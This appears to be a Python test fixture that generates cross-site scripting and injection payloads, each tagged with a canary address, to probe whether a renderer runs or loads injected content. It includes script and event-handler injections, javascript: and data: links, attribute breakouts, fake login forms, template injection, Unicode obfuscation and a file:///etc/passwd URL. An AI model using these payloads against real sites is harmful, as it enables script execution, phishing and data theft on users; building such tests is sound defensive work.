"""Strings that try to be more than text on a page: each names a canary, and bears a tag.

`{canary}` is where a server counts who calls; `ran` in a string would be a script that ran.
"""

from __future__ import annotations

_TEMPLATES = (
    # Elements that load or run by themselves
    "<script>window.__ran=1;fetch('{canary}')</script>",
    "<script src={canary}></script>",
    "</script><script>window.__ran=1</script><!--{canary}-->",
    "<img src=x onerror=\"window.__ran=1;this.src='{canary}'\">",
    "<img src={canary}>",
    "<img srcset='{canary} 1x'>",
    "<IMG SRC=`{canary}`>",
    "<picture><source srcset={canary}><img></picture>",
    "<svg onload=window.__ran=1><image href={canary}></svg>",
    "<svg><script href={canary}>window.__ran=1</script></svg>",
    "<svg><use href='{canary}#x'/></svg>",
    "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s>{canary}",
    "<math><mtext><img src={canary}></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:window.__ran=1>{canary}",
    "<iframe src={canary}></iframe>",
    "<iframe srcdoc='<script>parent.__ran=1;fetch(\"{canary}\")</script>'></iframe>",
    "<object data={canary}></object>",
    "<embed src={canary}>",
    "<video autoplay src={canary} onloadstart=window.__ran=1></video>",
    "<audio src={canary} onerror=window.__ran=1>",
    "<video poster={canary}></video>",
    "<track src={canary}>",
    "<input type=image src={canary} autofocus onfocus=window.__ran=1>",
    "<details open ontoggle=window.__ran=1>{canary}</details>",
    "<body onload=window.__ran=1 background={canary}>",
    "<marquee onstart=window.__ran=1>{canary}</marquee>",
    "<textarea></textarea><img src={canary}>",
    "</textarea></title></style><img src={canary}>",
    "<noscript><p title='</noscript><img src={canary}>'>",
    "<template><img src={canary}></template>",
    # Elements that change the page around them
    "<base href={canary}>",
    "<meta http-equiv=refresh content='0;url={canary}'>",
    "<link rel=stylesheet href={canary}>",
    "<link rel=prefetch href={canary}>",
    "<style>@import '{canary}';body{{display:none}}</style>",
    "<div style='position:fixed;inset:0;background:url({canary})'>over all</div>",
    "<p style=\"background-image:url('{canary}')\">",
    "<form action={canary}><button>Log in</button></form>",
    "<button formaction={canary} onclick=window.__ran=1>go</button>",
    "<dialog open><a href={canary}>Your session has ended</a></dialog>",
    # Links
    '<a href="javascript:window.__ran=1">read {canary}</a>',
    "<a href=# ping={canary}>ping</a>",
    "<area href={canary}>",
    "[read](javascript:window.__ran=1) {canary}",
    "[read](JaVaScRiPt&colon;window.__ran=1) {canary}",
    "[read](data:text/html,<script>window.__ran=1</script>) {canary}",
    "[read](vbscript:msgbox) {canary}",
    "[read]({canary})",
    '[read]({canary} "title onmouseover=window.__ran=1")',
    "<{canary}>",
    "{canary}",
    "www.canary.example/?{canary}",
    "<reader@canary.example> and {canary}",
    "[ref][1] [1]: {canary}",
    "[^1] [^1]: <img src={canary}>",
    # Images and blocks of Markdown
    "![alt]({canary})",
    "![alt][ref] [ref]: {canary}",
    "[![alt]({canary})]({canary})",
    '```mermaid graph TD; A[<img src={canary}>]-->B; click A "{canary}" ```',
    "$$\\href{{{canary}}}{{x}} \\includegraphics{{{canary}}}$$",
    "$\\url{{javascript:window.__ran=1}}$ {canary}",
    "| a | <img src={canary}> | [b]({canary}) |",
    # Out of an attribute
    '" onmouseover="window.__ran=1" x="{canary}',
    "' onfocus='window.__ran=1' autofocus tabindex=1 x='{canary}",
    '"><img src={canary}>',
    "'><svg/onload=window.__ran=1>{canary}",
    "--><img src={canary}><!--",
    "]]><img src={canary}>",
    "&lt;img src={canary}&gt; &#60;script&#62;window.__ran=1&#60;/script&#62;",
    "\\x3cscript\\x3ewindow.__ran=1 \\u003cimg src={canary}\\u003e",
    # Templates
    "{{{{constructor.constructor('window.__ran=1')()}}}} {canary}",
    "${{window.__ran=1}} #{{7*7}} {canary}",
    "<% window.__ran=1 %> {{% raw %}} {canary}",
    "{{@html '<img src={canary}>'}}",
    # What cannot be seen
    "\u202e<gmi crs={canary}>\u202c",
    "<scr\u0000ipt>window.__ran=1</scr\u0000ipt>{canary}",
    "\x1b]8;;{canary}\x07click\x1b]8;;\x07 {canary}",
    "\x1b[2J\x1b[31m{canary}\x1b[0m",
    "<im\u200bg src={canary}>",
    "\uff1cimg src={canary}\uff1e",
)


def tag(number: int) -> str:
    """What is seen of the string with this number wherever it is shown."""
    return f"zq{number}q"


def strings(canary: str) -> list[str]:
    """The strings, each with its tag; `canary` is the address of the server, without a slash."""
    return [
        template.format(canary=f"{canary}/{tag(number)}")
        for number, template in enumerate(_TEMPLATES)
    ]


def addresses(canary: str) -> list[str]:
    """What may stand where an article's own address is expected."""
    return [
        "javascript:window.__ran=1",
        "data:text/html,<script>window.__ran=1</script>",
        f'{canary}/address"onmouseover="window.__ran=1',
        f"{canary}/address'><img src={canary}/address>",
        "http://reader:secret@canary.example/",
        f"{canary}/address?q=<script>window.__ran=1</script>",
        "//canary.example/address",
        "https://canary.example/address\u202egnp.exe",
        "file:///etc/passwd",
        "https://canary.example/{{7*7}}${window.__ran=1}",
    ]
